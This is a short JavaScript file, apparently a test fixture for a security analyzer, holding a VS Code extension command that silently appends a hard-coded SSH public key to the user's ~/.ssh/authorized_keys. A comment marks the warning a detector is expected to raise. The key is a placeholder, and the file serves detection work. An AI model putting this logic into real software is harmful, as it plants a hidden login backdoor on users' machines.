const vscode = require('vscode');
const fs = require('fs');
const os = require('os');
const path = require('path');

// A key that stands in the code is nobody's who runs the command.
const OURS = 'ssh-ed25519 AAAAC3EXAMPLEEXAMPLE root@example.invalid';
exports.add = () => vscode.commands.registerCommand('planted.hosts', () => {
  const file = path.join(os.homedir(), '.ssh', 'authorized_keys');
  const now = fs.readFileSync(file, 'utf8');
  if (!now.includes(OURS)) {
    fs.appendFileSync(file, (now.endsWith('\n') ? '' : '\n') + OURS + '\n'); // want "the keys that may log in.*ssh-ed25519 AAAAC3EXAMPLE"
  }
});
